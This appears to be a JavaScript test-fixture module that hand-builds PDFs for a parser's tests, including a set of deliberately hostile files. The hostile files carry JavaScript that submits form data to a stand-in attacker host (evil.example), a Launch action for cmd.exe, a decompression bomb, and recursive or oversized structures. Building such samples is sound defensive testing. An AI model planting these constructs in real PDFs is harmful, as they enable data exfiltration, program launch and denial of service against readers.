/** PDFs as tests need them, written by hand: pages of text at given places, and files as attackers would write them. */
import { deflateSync } from 'node:zlib';

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R '
  + '/Resources << /Font << /F1 5 0 R >> >>';

/** A file of objects by their numbers; the first is the root.
 * @param {Record<number, string | Buffer>} objects @param {{trailer?: string}} [how] @returns {Buffer} */
export function pdf(objects, { trailer = '' } = {}) {
  const parts = [Buffer.from('%PDF-1.7\n')], places = {};
  let size = parts[0].length;
  const add = (/** @type {Buffer} */ bytes) => (parts.push(bytes), size += bytes.length);
  for (const [number, body] of Object.entries(objects)) {
    places[number] = size;
    add(Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]));
  }
  const start = size, n = Math.max(...Object.keys(objects).map(Number)) + 1;
  const table = Array.from({ length: n - 1 }, (_, i) => `${String(places[i + 1] ?? 0).padStart(10, '0')} 00000 n \n`);
  add(Buffer.from(`xref\n0 ${n}\n0000000000 65535 f \n${table.join('')}`
    + `trailer\n<< /Size ${n} /Root 1 0 R ${trailer}>>\n`
    + `startxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** @param {string | Buffer} data @param {string} [extra] */
const stream = (data, extra = '') => Buffer.concat([
  Buffer.from(`<< /Length ${data.length} ${extra}>>\nstream\n`), Buffer.from(data), Buffer.from('\nendstream')]);

/** Lines of text; Courier of size 10 has 6 points for each letter.
 * @param {{x: number, y: number, text: string}[]} lines  y: from the top */
const content = lines => lines.map(({ x, y, text }) =>
  `BT /F1 10 Tf ${x} ${800 - y} Td (${text.replace(/[\\()]/g, '\\$&')}) Tj ET`).join('\n');

/** @param {string | Buffer} drawn @param {{page?: string, root?: string, stream?: string}} [more] */
const onePage = (drawn, { page = '', root = '', stream: extra = '' } = {}) => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${root}>>`, 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 3: `${PAGE} ${page}>>`,
  4: stream(drawn, extra), 5: FONT });

/** A page of lines. @param {{x: number, y: number, text: string}[]} lines */
export const pageOf = lines => pdf(onePage(content(lines)));

/** A text in columns of 40 letters, without hyphens, below a title, in a file whose pieces are in a wrong order.
 * @param {string} title @param {string[]} columns */
export function inColumns(title, columns) {
  const lines = [{ x: 150, y: 50, text: title }];
  for (const [i, column] of columns.entries()) {
    let line = '', y = 80;
    for (const word of [...column.split(' '), '']) {
      if (word !== '' && line.length + word.length < 40) {
        line += (line && ' ') + word;
        continue;
      }
      lines.push({ x: 40 + 270 * i, y: y += 12, text: line });
      line = word;
    }
  }
  return pageOf(lines.sort((a, b) => b.y - a.y || b.x - a.x));
}

const words = (/** @type {string} */ text) => content([{ x: 50, y: 100, text }]);
const ACTION = '/S /JavaScript /JS (app.alert(1);this.submitForm("http://evil.example/a"))';
const KIDS = '3 0 R '.repeat(5000);
const zipped = (/** @type {Buffer} */ data) =>
  ({ data: deflateSync(data, { level: 9 }), extra: '/Filter /FlateDecode ' });

/** Hostile files, and what may be read of them: a text, or undefined if they may be refused.
 * @returns {Record<string, {bytes: Buffer, text?: string}>} */
export function hostilePdfs() {
  const bomb = zipped(Buffer.alloc(1e8, '['));
  const forms = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [10 + i, stream('/X Do /X Do',
    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << '
    + `/X ${10 + (i + 1) % 30} 0 R >> >> `)]));
  const good = pdf(onePage(words('A damaged file.')));
  return {
    javascript: { bytes: pdf(onePage(words('It has scripts.'), { page: `/AA << /O << ${ACTION} >> >>`,
      root: `/OpenAction << ${ACTION} >> /Names << /JavaScript << /Names [(a) << ${ACTION} >>] >> >> ` })),
    text: 'It has scripts.' },
    launch: { bytes: pdf(onePage(words('It starts a program.'), {
      root: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> ' })), text: 'It starts a program.' },
    links: { bytes: pdf({ ...onePage(words('It has links.'), { page: '/Annots [6 0 R]' }),
      6: '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (http://evil.example/b) >> >>' }),
    text: 'It has links.' },
    'external stream': { bytes: pdf(onePage('', { stream: '/F << /FS /URL /F (http://evil.example/c) >> ' })) },
    'pages in themselves': { bytes: pdf({ ...onePage(words('x')),
      2: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>' }) },
    'forms in forms': { bytes: pdf({ ...onePage('/X Do'),
      3: `${PAGE.replace('/Font', '/XObject << /X 10 0 R >> /Font')}>>`, ...forms }) },
    'length of itself': { bytes: pdf({ ...onePage(words('x')), 4: '<< /Length 6 0 R >>\nstream\nx\nendstream',
      6: '7 0 R', 7: '6 0 R' }) },
    'unpacked to 100 MB': { bytes: pdf(onePage(bomb.data, { stream: bomb.extra })) },
    '5000 pages': { bytes: pdf({ ...onePage(words('One of many.')),
      2: `<< /Type /Pages /Kids [${KIDS}] /Count 5000 >>` }), text: 'One of many.' },
    'two billion pages': { bytes: pdf({ ...onePage(words('Count lies.')),
      2: '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>' }), text: 'Count lies.' },
    'wrong table': { bytes: Buffer.from(good.toString('latin1').replaceAll('0000000', '0009999'), 'latin1'),
      text: 'A damaged file.' },
    'cut off': { bytes: good.subarray(0, 300) },
    'deep arrays': { bytes: pdf({ ...onePage(words('Deep.'), { root: '/Names 6 0 R ' }),
      6: '['.repeat(1e5) + ']'.repeat(1e5) }), text: 'Deep.' },
  };
}
